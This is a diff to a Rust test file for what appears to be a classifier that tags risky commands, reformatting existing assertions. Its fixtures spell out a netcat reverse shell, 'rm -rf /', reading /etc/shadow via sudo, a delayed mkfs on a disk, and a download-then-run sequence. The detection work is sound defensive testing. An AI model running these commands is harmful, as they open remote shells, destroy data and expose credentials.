@@ -18,21 +18,31 @@ fn lists_of_words_are_commands_without_any_shell() {
     assert_eq!(tags(&[&runs(&["nc", "-e", "/bin/sh", "192.0.2.1", "80"])]), ["reverse-shell"]);
     assert_eq!(tags(&[&runs(&["rm", "-rf", "/"])]), ["destructive"]);
     assert_eq!(tags(&[&runs(&["echo", "rm -rf /"])]), Vec::<&str>::new());
-    assert_eq!(tags(&[&runs(&["sudo", "-u", "root", "cat", "/etc/shadow"])]), ["credential-access", "privilege"]);
+    assert_eq!(
+        tags(&[&runs(&["sudo", "-u", "root", "cat", "/etc/shadow"])]),
+        ["credential-access", "privilege"]
+    );
 }
 
 #[test]
 fn what_is_handed_over_is_followed() {
     let timer = call(
         name("threading", "Timer"),
-        vec![Value::Int(5), name("subprocess", "run"), Value::List(vec![Value::List(vec![text("mkfs.ext4"), text("/dev/sda1")])])],
+        vec![
+            Value::Int(5),
+            name("subprocess", "run"),
+            Value::List(vec![Value::List(vec![text("mkfs.ext4"), text("/dev/sda1")])]),
+        ],
     );
     assert_eq!(tags(&[&timer]), ["destructive"]);
 }
 
 #[test]
 fn steps_are_told_apart_and_seen_together() {
-    let fetch = call(name("urllib.request", "urlretrieve"), vec![text("http://example.com/x"), text("/tmp/x")]);
+    let fetch = call(
+        name("urllib.request", "urlretrieve"),
+        vec![text("http://example.com/x"), text("/tmp/x")],
+    );
     let run = runs(&["/tmp/x"]);
     let seen = observe(&[&fetch, &run], &Uninterpreted);
     assert!(seen[0].tags.is_empty());
